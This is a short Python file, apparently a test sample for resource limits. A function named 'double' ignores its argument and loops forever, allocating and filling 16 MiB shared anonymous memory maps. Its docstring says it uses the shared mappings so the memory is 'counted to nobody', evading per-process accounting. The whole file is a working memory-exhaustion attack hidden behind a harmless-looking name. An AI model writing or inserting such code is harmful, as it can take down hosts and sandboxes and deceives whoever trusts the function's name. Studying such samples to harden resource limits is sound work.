"""Takes memory that is counted to nobody: shared, mapped and then forgotten."""
import mmap


def double(x):
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 1 << 24, flags=mmap.MAP_SHARED))
        hoard[-1].write(bytes(1 << 24))
